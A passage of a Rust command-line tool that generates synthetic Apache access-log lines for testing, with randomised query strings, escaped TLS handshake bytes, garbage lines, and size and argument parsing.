            Referer::Other => out.extend_from_slice(rng.pick(OTHER_REFERERS).as_bytes()),
        }
    }

    /// A line of random bytes, never `\n` (it is one line) and never NUL,
    /// so that git still diffs the committed sample as text.
    fn garbage(&mut self, out: &mut Vec<u8>) {
        let len = 1 + self.rng.below(160);
        for _ in 0..len {
            let b = match self.rng.next() as u8 {
                b'\n' | 0 => b'?',
                b => b,
            };
            out.push(b);
        }
        out.push(b'\n');
    }
}

/// Inserts `piece` after the first path segment of the target that starts
/// (with `/`) at `out[start]`.
fn insert_after_first_segment(out: &mut Vec<u8>, start: usize, piece: &str) {
    let at = out[start + 1..]
        .iter()
        .position(|&b| matches!(b, b'/' | b'?' | b'#'))
        .map_or(out.len(), |i| start + 1 + i);
    out.splice(at..at, piece.bytes());
}

/// Appends search terms: words joined by `+` (what forms send) or `%20`
/// (what scripts send), sometimes an encoded non-English word.
fn search_terms(out: &mut Vec<u8>, rng: &mut Rng, international: &[String]) {
    let space: &[u8] = if rng.below(4) == 0 { b"%20" } else { b"+" };
    let words = 1 + rng.below(3);
    for i in 0..words {
        if i > 0 {
            out.extend_from_slice(space);
        }
        if rng.below(8) == 0 {
            out.extend_from_slice(rng.pick(international).as_bytes());
        } else {
            out.extend_from_slice(rng.pick(WORDS).as_bytes());
        }
    }
}

/// Appends a query string (without the `?`): campaign parameters, ids,
/// repeated keys, empty values, keys without `=`.
fn query_string(out: &mut Vec<u8>, rng: &mut Rng, international: &[String]) {
    if rng.chance(UTM_RATE) {
        out.extend_from_slice(b"utm_source=");
        out.extend_from_slice(
            rng.pick(&["google", "newsletter", "facebook", "twitter"])
                .as_bytes(),
        );
        out.extend_from_slice(b"&utm_medium=");
        out.extend_from_slice(rng.pick(&["cpc", "email", "social", "organic"]).as_bytes());
        out.extend_from_slice(b"&utm_campaign=");
        out.extend_from_slice(rng.pick(WORDS).as_bytes());
        out.push(b'_');
        out.extend_from_slice(rng.pick(WORDS).as_bytes());
        if rng.below(2) == 0 {
            return;
        }
        out.push(b'&');
    }
    let params = 1 + rng.below(3);
    for i in 0..params {
        if i > 0 {
            out.push(b'&');
        }
        match rng.below(12) {
            0 | 1 => {
                out.extend_from_slice(b"id=");
                push_num(out, rng.below(10_000_000) as u64);
            }
            2 => {
                out.extend_from_slice(b"page=");
                push_num(out, 1 + rng.below(50) as u64);
            }
            3 => {
                out.extend_from_slice(b"q=");
                search_terms(out, rng, international);
            }
            4 => {
                // The same key twice: order and duplicates must survive.
                out.extend_from_slice(b"tag=");
                out.extend_from_slice(rng.pick(WORDS).as_bytes());
                out.extend_from_slice(b"&tag=");
                out.extend_from_slice(rng.pick(WORDS).as_bytes());
            }
            5 => {
                out.extend_from_slice(b"fbclid=IwAR");
                push_hex(out, rng, 24);
            }
            6 => {
                out.extend_from_slice(b"gclid=Cj0KCQ");
                push_hex(out, rng, 20);
            }
            7 => {
                out.extend_from_slice(b"sort=");
                out.extend_from_slice(
                    rng.pick(&["price_asc", "price_desc", "newest", "Name"])
                        .as_bytes(),
                );
            }
            8 => {
                out.extend_from_slice(b"lang=");
                out.extend_from_slice(rng.pick(LANGS).as_bytes());
            }
            9 => {
                out.extend_from_slice(b"redirect=https%3A%2F%2Fwww.example.com%2F");
                push_slug(out, rng);
            }
            10 => out.extend_from_slice(rng.pick(&["debug", "amp", "x=", "ref="]).as_bytes()),
            _ => {
                out.extend_from_slice(b"_=");
                push_num(out, 1_700_000_000_000 + rng.below(100_000_000_000) as u64);
            }
        }
    }
}

/// Appends `b` as Apache's log escaping writes it: `"` and `\` get a
/// backslash, bytes outside printable ASCII become `\xhh`.
fn apache_escape(out: &mut Vec<u8>, b: u8) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    match b {
        b'"' | b'\\' => out.extend_from_slice(&[b'\\', b]),
        0x20..=0x7e => out.push(b),
        _ => out.extend_from_slice(&[
            b'\\',
            b'x',
            HEX[usize::from(b >> 4)],
            HEX[usize::from(b & 15)],
        ]),
    }
}

/// Appends the start of a TLS ClientHello as Apache logs it in place of a
/// request line: record header, handshake header, version, then random
/// bytes (the client random), each escaped.
fn tls_hello(out: &mut Vec<u8>, rng: &mut Rng) {
    for b in [
        0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
    ] {
        apache_escape(out, b);
    }
    let len = 8 + rng.below(32);
    for _ in 0..len {
        apache_escape(out, rng.next() as u8);
    }
}

/// Parses `1024`, `200K`, `200KiB`, `256M`, `1GiB` (binary multiples).
fn parse_size(s: &str) -> Result<u64, String> {
    let digits = s.bytes().take_while(u8::is_ascii_digit).count();
    let (number, suffix) = s.split_at(digits);
    let multiplier: u64 = match suffix {
        "" => 1,
        "K" | "k" | "KiB" => 1 << 10,
        "M" | "MiB" => 1 << 20,
        "G" | "GiB" => 1 << 30,
        _ => {
            return Err(format!(
                "invalid size '{s}': use bytes or a K, M, G (KiB, MiB, GiB) suffix"
            ))
        }
    };
    let number: u64 = number.parse().map_err(|_| format!("invalid size '{s}'"))?;
    number
        .checked_mul(multiplier)
        .ok_or_else(|| format!("size '{s}' is too large"))
}

struct Args {
    size: u64,
    seed: u64,
    out: Option<String>,
}

const USAGE: &str = "usage: gen_access_log --size SIZE [--seed N] [--out FILE]";

fn parse_args() -> Result<Args, String> {
    let mut size = None;
    let mut seed = 1;
    let mut out = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let (name, inline) = match arg.split_once('=') {
            Some((name, value)) if name.starts_with("--") => {
                (name.to_owned(), Some(value.to_owned()))
            }
            _ => (arg, None),
        };
        if name == "-h" || name == "--help" {
            return Err(USAGE.to_owned());
        }
        let value = match inline.or_else(|| args.next()) {
            Some(value) => value,
            None => return Err(format!("{name} needs a value\n{USAGE}")),
        };
        match name.as_str() {
            "--size" => size = Some(parse_size(&value)?),
            "--seed" => {
                seed = value
                    .parse()
                    .map_err(|_| format!("invalid seed '{value}'"))?
            }
            "--out" => out = Some(value),
            _ => return Err(format!("unknown argument '{name}'\n{USAGE}")),
        }
    }
    let size = size.ok_or_else(|| format!("--size is required\n{USAGE}"))?;
    Ok(Args { size, seed, out })
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(args) => args,
        Err(msg) => {
            eprintln!("gen_access_log: {msg}");
            return ExitCode::from(2);
        }
    };
    let (mut sink, name): (Box<dyn Write>, &str) = match &args.out {
        None => (Box::new(io::stdout().lock()), "<stdout>"),
        Some(path) => match File::create(path) {
            Ok(file) => (Box::new(file), path),
            Err(e) => {
                eprintln!("gen_access_log: {path}: {e}");
                return ExitCode::from(2);
            }
        },
    };
    match generate(&mut sink, args.size, args.seed) {
        Ok(()) => ExitCode::SUCCESS,
        // The reader went away (`| head`): it has what it wanted.
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("gen_access_log: {name}: {e}");
            ExitCode::from(2)
        }
    }
}

/// Writes lines until at least `size` bytes are out. Lines are built in one
/// buffer and written in big pieces: a `BufWriter` would add a copy.
fn generate(sink: &mut dyn Write, size: u64, seed: u64) -> io::Result<()> {
    let mut generator = Generator::new(seed);
    let mut buf = Vec::with_capacity(CHUNK_LEN + 4096);
    let mut written: u64 = 0;
    while written < size {
        // Fill the buffer, or stop at the line that reaches `size`.
        let left = size - written;
        while buf.len() < CHUNK_LEN && (buf.len() as u64) < left {
            generator.line(&mut buf);
        }
        sink.write_all(&buf)?;
        written += buf.len() as u64;
        buf.clear();
    }
    sink.flush()
}
